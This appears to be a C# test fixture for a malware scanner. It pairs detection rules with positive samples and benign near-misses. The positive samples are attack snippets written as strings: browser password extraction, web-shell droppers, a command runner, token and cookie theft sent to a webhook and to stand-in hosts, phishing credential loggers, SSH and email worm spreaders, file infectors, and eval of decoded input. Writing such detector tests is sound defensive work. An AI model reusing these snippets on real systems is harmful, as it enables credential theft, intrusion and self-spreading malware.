namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Logins of browsers, pages that are written, tokens and passwords that leave, copies to others, functions that are handed on, and honest programs that look like them.</summary>
internal static class IntruderCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("browser-logins-opened", "keep.cs", "var db = Path.Combine(dir, \"Login Data\");\nvar key = ProtectedData.Unprotect(wrapped, null, DataProtectionScope.CurrentUser);\nusing var ask = new SqliteCommand(\"SELECT origin_url, password_value FROM logins\", link);\n"),
        ("browser-logins-opened", "keep.go", "p := filepath.Join(dir, \"Default\", \"Login Data\")\nout, _ := exec.Command(\"security\", \"find-generic-password\", \"-wa\", \"Chrome Safe Storage\").Output()\nkey := pbkdf2.Key(out, []byte(\"saltysalt\"), 1003, 16, sha1.New)\nrows, _ := db.Query(\"select password_value from logins\")\n"),
        ("browser-logins-opened", "keep.js", "const file = path.join(dir, 'Login Data');\nconst key = dpapi.unprotectData(wrapped, null, 'CurrentUser');\ndb.each('SELECT username_value, password_value FROM logins', row => all.push(open(key, row)));\n"),
        ("page-runs-request", "a.php", "<?php\n$f = fopen('images/view.php', 'w');\nfwrite($f, $_POST['t']);\n"),
        ("page-runs-request", "a.asp", "<%\nt = Request.Form(\"t\")\nSet f = fso.CreateTextFile(Server.MapPath(\"pic.asp\"), True)\nf.Write t\n%>\n"),
        ("page-runs-request", "b.aspx", "<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  System.IO.File.WriteAllText(root + \"view.aspx\", Request.Form[\"t\"]);\n}\n</script>\n"),
        ("page-runs-request", "c.asmx", "<%@ WebService Language=\"C#\" Class=\"A\" %>\npublic class A {\n  public string Go() {\n    var q = HttpContext.Current.Request.RawUrl;\n    var i = new ProcessStartInfo(\"cmd.exe\", \"/c \" + q.Substring(4));\n    return Read(i);\n  }\n}\n"),
        ("remote-code", "up.php", "<?php\n$t = file_get_contents('https://paste.example.net/raw/1');\nfile_put_contents('wp-load2.php', $t);\n"),
        ("remote-code", "up.py", "text = requests.get(there).text\nwith open('/srv/www/img.php', 'w') as f:\n    f.write(text)\n"),
        ("page-secrets-leave", "tok.js", "const t = window.localStorage.getItem('access_token');\nfetch('https://discord.com/api/webhooks/1/2', { method: 'POST', body: t });\n"),
        ("page-secrets-leave", "go.js", "const t = localStorage.userToken;\nwindow.open('https://v.example.net/w?v=' + btoa(t));\n"),
        ("page-secrets-leave", "bg.ts", "browser.cookies.getAll({ domain: '.bank.example' }, (cookies) => {\n  const all = cookies.map(c => c.name + '=' + c.value);\n  navigator.sendBeacon('https://in.example.net/c', all.join(';'));\n});\n"),
        ("page-secrets-leave", "sign.py", "@app.post('/')\ndef sign():\n    with open('seen.txt', 'a') as f:\n        f.write(request.form['user'] + ' ' + request.form['password'] + '\\n')\n    return redirect('https://mail.example.com/login')\n"),
        ("page-secrets-leave", "sign2.js", "app.post('/login', (req, res) => {\n  fs.appendFileSync('seen.txt', `${req.body.user} ${req.body.password}\\n`);\n  res.redirect('https://mail.example.com/login');\n});\n"),
        ("page-secrets-leave", "sign.php", "<?php\nfile_put_contents('seen.txt', $_POST['user'] . ' ' . $_POST['pass'] . \"\\n\", FILE_APPEND);\nheader('Location: https://mail.example.com/login');\n"),
        ("copies-itself", "all.bas", "For Each one In list.AddressEntries\n  Set m = app.CreateItem(0)\n  m.To = one.Address\n  m.Attachments.Add ThisWorkbook.FullName\n  m.Send\nNext\n"),
        ("copies-itself", "all.py", "for entry in outlook.Session.GetGlobalAddressList().AddressEntries:\n    mail = outlook.CreateItem(0)\n    mail.To = entry.Address\n    mail.Send()\n"),
        ("copies-itself", "on.sh", "for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do\n  scp -o BatchMode=yes run.sh $h:/tmp/\n  ssh $h 'nohup sh /tmp/run.sh'\ndone\n"),
        ("copies-itself", "on.py", "sftp = client.open_sftp()\nsftp.put(__file__, '/tmp/on.py')\nclient.exec_command('nohup python3 /tmp/on.py')\n"),
        ("copies-itself", "in.py", "me = open(__file__).read()\nfor name in glob.glob('*.py'):\n    with open(name, 'r+') as f:\n        old = f.read()\n        f.seek(0)\n        f.write(me + old)\n"),
        ("copies-itself", "in.rb", "me = File.read(__FILE__)\nDir.glob('**/*.rb').each do |name|\n  old = File.read(name)\n  File.write(name, me + old)\nend\n"),
        ("remote-commands", "hand.py", "while True:\n    text = sock.recv(4096).decode()\n    threading.Thread(target=exec, args=(text,)).start()\n"),
        ("decoded-code", "hand.php", "<?php\n$c = base64_decode($_COOKIE['k']);\narray_map('assert', [$c]);\n"),
        ("decoded-code", "hand.rb", "text = Base64.decode64(given)\n[text].each(&method(:eval))\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("browser-logins-opened", "own.cs", "var secret = ProtectedData.Unprotect(File.ReadAllBytes(\"token.bin\"), null, DataProtectionScope.CurrentUser);\n"),
        ("browser-logins-opened", "import.py", "rows = csv.DictReader(open('Chrome Passwords.csv'))\nfor row in rows:\n    store.add(row['name'], row['password'])\n"),
        ("browser-logins-opened", "table.sql", "SELECT user, at FROM logins WHERE at > now() - interval '1 day';\n"),
        ("page-runs-request", "setup.php", "<?php\n$f = fopen('config.php', 'w');\nfwrite($f, \"<?php \\$host = '\" . addslashes($_POST['host']) . \"';\");\n"),
        ("page-runs-request", "log.asp", "<%\nSet f = fso.OpenTextFile(Server.MapPath(\"guests.txt\"), 8)\nf.WriteLine Request.Form(\"name\")\n%>\n"),
        ("remote-code", "get.php", "<?php\ncopy('https://getcomposer.org/installer', 'composer-setup.php');\n"),
        ("page-secrets-leave", "api.js", "const t = localStorage.getItem('token');\nfetch('https://api.example.com/me', { headers: { Authorization: `Bearer ${t}` } });\n"),
        ("page-secrets-leave", "own.js", "chrome.cookies.get({ url: home, name: 'lang' }, (cookie) => {\n  show(cookie.value);\n});\n"),
        ("page-secrets-leave", "join.py", "@app.post('/join')\ndef join():\n    users.add(request.form['user'], digest(request.form['password']))\n    return redirect('/welcome')\n"),
        ("copies-itself", "send.bas", "For Each row In sheet.Rows\n  Set m = app.CreateItem(0)\n  m.To = row.Cells(1).Value\n  m.Send\nNext\n"),
        ("copies-itself", "roll.sh", "ssh-keyscan $HOST >> ~/.ssh/known_hosts\nscp app.tar $HOST:/srv/\nssh $HOST 'sh /srv/start.sh'\n"),
        ("copies-itself", "head.py", "head = open('HEADER.txt').read()\nfor name in glob.glob('*.py'):\n    text = open(name).read()\n    with open(name, 'w') as f:\n        f.write(head + text)\n"),
        ("remote-commands", "lines.py", "line = sock.recv(64)\nthreading.Thread(target=show, args=(line,)).start()\n"),
        ("decoded-code", "list.php", "<?php\n$t = base64_decode($given);\n$all = array_map('trim', explode(',', $t));\n"),
    ];
}
